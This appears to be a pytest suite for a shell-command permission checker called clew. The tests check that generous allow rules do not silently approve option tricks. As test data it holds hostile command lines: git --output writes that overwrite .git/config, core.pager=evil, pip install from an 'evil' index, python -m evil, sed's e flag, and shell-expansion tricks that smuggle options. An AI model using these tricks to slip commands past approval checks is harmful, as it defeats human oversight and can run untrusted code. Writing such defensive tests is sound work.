"""Options that run programs, write files or load settings: no rule that is only generous covers one (PM-8)."""

from __future__ import annotations

import os
import random
import re
from collections import Counter
from collections.abc import Callable
from itertools import islice
from pathlib import Path

import pytest

from clew.permissions.approval_rules import rules_for
from clew.permissions.explain import explain
from clew.permissions.rules import own_rules
from clew.permissions.shell.programs.catalog import load_programs
from clew.permissions.shell.programs.scripts import is_plain_script
from clew.transcript.rule import Rule, Target
from tests.corpora import options as corpus

ROUNDS = int(os.environ.get("CLEW_ROUNDS", "300"))
Figure = Callable[[str, object], None]


def action(line: str, *patterns: str) -> str:
    return corpus.decide(line, *(Rule("bash", pattern, "allow") for pattern in patterns)).action


def reason(line: str) -> str:
    return explain(corpus.decide(line)).reason


# ---------------------------------------------------------------- the lists


@pytest.mark.rule("PM-8")
def test_no_option_trick_passes_under_generous_rules(record_property: Figure) -> None:
    """Whole programs are allowed by these rules; what makes them run, write, load or send is not."""
    tricks = corpus.tricks()
    assert [line for line in tricks if corpus.decide(line).action == "allow"] == []
    assert len(tricks) == len(set(tricks)) >= 400
    record_property("figure", f"option tricks: {len(tricks)}, 0 silent allows")


@pytest.mark.rule("PM-8")
def test_what_people_use_every_day_stays_allowed(record_property: Figure) -> None:
    """The same rules, on honest lines: those marked so pass, the rest ask for a reason that is documented."""
    lines = corpus.everyday()
    assert [(corpus.decide(line).action, line) for _, line in lines] == lines
    counts = Counter(mark for mark, _ in lines)
    assert counts["allow"] >= 150
    # In an engine clew's own places are pinned as well, and what only the shell knows may lead there.
    own = own_rules(["/home/u/.local/share/clew", "/home/u/.config/clew"], [])
    fewer = sum(corpus.decide(line, *corpus.RULES, manifest=own).action == "allow" for _, line in lines)
    share = round(100 * counts["ask"] / len(lines))
    said = f"everyday lines: {len(lines)}, {counts['allow']} allowed, {share} % ask"
    record_property("figure", f"{said}; {fewer} allowed where clew's own places are pinned")


@pytest.mark.rule("PM-8")
def test_a_trick_that_is_spelled_or_wrapped_otherwise_does_not_pass_either(record_property: Figure) -> None:
    """Tricks changed at random; CLEW_ROUNDS sets how many."""
    problems = [
        problem for line in islice(corpus.mutations(random.Random(8)), ROUNDS) if (problem := corpus.judge(line))
    ]
    assert problems == []
    record_property("figure", f"mutated option tricks: {ROUNDS}, 0 silent allows")


# ---------------------------------------------------------------- the holes, one by one


@pytest.mark.rule("PM-8")
@pytest.mark.parametrize(
    "line",
    [
        "git log -1 $x--output=.git/config; git status",
        "git log ${x:---output f}",
        "for o in --output=f; do git log $o; done",
        "git log $(echo --output=f)",
        "echo --output=f; git log $_",
        "git log *",
        "git log --outp=f",
    ],
)
def test_an_output_that_the_shell_would_fill_in_is_asked_about(line: str) -> None:
    """Under `git log*` and `git status*` these wrote git's settings, and the next command ran what stood in them."""
    assert action(line, "git log*", "git status*", "echo *") == "ask"


@pytest.mark.rule("PM-8")
@pytest.mark.parametrize("line", ["git grep -nOcmd x", "git grep --open=cmd x", "git grep -n -O x"])
def test_a_pager_in_a_bundle_or_an_abbreviation_is_found(line: str) -> None:
    """`-nOcmd` is `-n` and `-O` with a value; `--open` is what it abbreviates."""
    assert action(line, "git grep*", "git *") == "ask"


@pytest.mark.rule("PM-8")
def test_an_abbreviated_output_of_sort_is_found() -> None:
    """And so is one at the end of a bundle."""
    assert {line: action(line, "sort *") for line in ("sort --outp=f a", "sort -nuof a", "sort -n a")} == {
        "sort --outp=f a": "ask",
        "sort -nuof a": "ask",
        "sort -n a": "allow",
    }


@pytest.mark.rule("PM-8")
def test_a_rule_that_writes_the_dangerous_thing_out_covers_it() -> None:
    """What is dangerous is not forbidden: a rule must name it, before its first star."""
    line = "git -c core.pager=cat log -3"
    assert action(line, "git *", "git -c *", "git * log*") == "ask"
    assert action(line, "git -c core.pager=cat *") == "allow"
    assert action(line, "git -c core.pager=cat log*") == "allow"
    assert action("git -c core.pager=evil log -3", "git -c core.pager=cat *") == "ask"
    assert action("sed -i s/a/b/ f", "sed *") == "ask"
    assert action("sed -i s/a/b/ f", "sed -i *") == "allow"
    assert action("npm install left-pad", "npm *") == "ask"
    assert action("npm install left-pad", "npm install *") == "allow"
    assert action("npm install ./evil", "npm install *") == "ask"
    assert action("pip install requests", "pip install *") == "allow"
    assert action("pip install --index-url http://evil requests", "pip install *") == "ask"
    assert action("git bisect run make test", "git bisect *", "git bisect run *") == "ask"
    assert action("git bisect run make test", "git bisect run make test") == "allow"


@pytest.mark.rule("PM-8", "PM-3")
def test_an_answer_to_a_dangerous_command_is_stored_for_exactly_that_command() -> None:
    """What is not known is stored for nobody: the same text may be another command next time."""
    target = Target("bash", "command", "sort -o a a")
    assert corpus.decide("sort -o a a", *rules_for(target, "session")).action == "allow"
    assert corpus.decide("sort -o b a", *rules_for(target, "session")).action == "ask"
    assert rules_for(Target("bash", "command", "git log $x"), "session") == ()


@pytest.mark.rule("PM-8")
@pytest.mark.parametrize(
    "line",
    [
        "git log -- $x",
        'git log --since="$x"',
        "git log src/*.py",
        'git show "HEAD:$x"',
        "sort ~/a",
        "sort <(ls)",
        'curl "https://a.example/$x"',
    ],
)
def test_what_cannot_be_an_option_may_be_unknown(line: str) -> None:
    """Behind `--`, as the value of a harmless option, or with a beginning that no option has."""
    assert corpus.decide(line).action == "allow"


@pytest.mark.rule("PM-8")
@pytest.mark.parametrize(
    "line", ["git log src/$x", 'git log "src/$@"', "git log src/{a,-x}", "git log -- a; git log $x"]
)
def test_a_known_beginning_does_not_help_where_one_word_becomes_several(line: str) -> None:
    """Without quotes the shell splits, and `$@` is several words even between them."""
    assert corpus.decide(line).action == "ask"


@pytest.mark.rule("PM-8", "PM-4")
@pytest.mark.parametrize(
    ("line", "said"),
    [
        (
            "git log --outp=f",
            "no rule covers it: `--output` makes `git log` write or change files, so only a rule that begins with "
            "`git log --outp=f` could allow it",
        ),
        (
            "git log $x",
            "no rule covers it: what `…` will be is known only to the running shell, and it could be an option that "
            "makes `git log` run a program or write a file, so only you could allow it",
        ),
        (
            "git frobnicate x",
            "no rule covers it: `frobnicate` is not a subcommand of `git` that is known to be harmless, so only a rule "
            "that begins with `git frobnicate` could allow it",
        ),
        (
            "sort --frobnicate a",
            "no rule covers it: `--frobnicate` is not an option of `sort` that is known to be harmless, so only a rule "
            "that begins with `sort --frobnicate a` could allow it",
        ),
        (
            "sed 's/a/b/e' f",
            "no rule covers it: its script could make `sed` run a program or write a file, so only a rule that begins "
            "with `sed s/a/b/e` could allow it",
        ),
        (
            "git log -U --output=f",
            "no rule covers it: `--output` makes `git log` write or change files, so only a rule that begins with "
            "`git log -U --output=f` could allow it",
        ),
        (
            "git log -n --output=f",
            "no rule covers it: `--output=f` stands where the value of `-n` should, so only a rule that begins with "
            "`git log -n --output=f` could allow it",
        ),
        (
            "python -m evil",
            "no rule covers it: `python` runs the module `evil`, of which nothing is known, so only a rule that begins "
            "with `python -m evil` could allow it",
        ),
    ],
)
def test_the_reason_names_the_argument_that_asked(line: str, said: str) -> None:
    """People read it in the approval."""
    assert reason(line) == said


def test_the_programs_with_tables_are_those_that_the_docs_name() -> None:
    """A person can look up for which programs a wide rule is narrower than it looks."""
    page = (Path(__file__).resolve().parents[2] / "docs" / "how-to" / "shell-lines.md").read_text(encoding="utf-8")
    listed = page.split("There are tables for\n", 1)[1].split("\n\n", 1)[0]
    assert re.findall(r"`([^`]+)`", listed) == sorted({name for name, _ in load_programs().values()})


@pytest.mark.rule("PM-8")
@pytest.mark.parametrize(
    ("language", "text", "plain"),
    [
        ("sed", "1,5p", True),
        ("sed", "s/a[^/x]b/c/", False),
        ("sed", "s/[0-9]/c/gp;$d", True),
        ("sed", "s/a/b/gpw x", False),
        ("sed", "/a/!d", True),
        ("sed", "e", False),
        ("sed", "1!G;h;$!d", True),
        ("awk", "{print $1}", True),
        ("awk", "$1 > 2 || $2 {print}", True),
        ("awk", "{print} $1 > 2", False),
        ("awk", "{print a || b}", True),
        ("awk", "{print | x}", False),
    ],
)
def test_small_scripts_are_plain_only_when_they_certainly_are(language: str, text: str, plain: bool) -> None:
    """Neither language is read in full; what is not certain is asked about."""
    assert is_plain_script(language, text) is plain
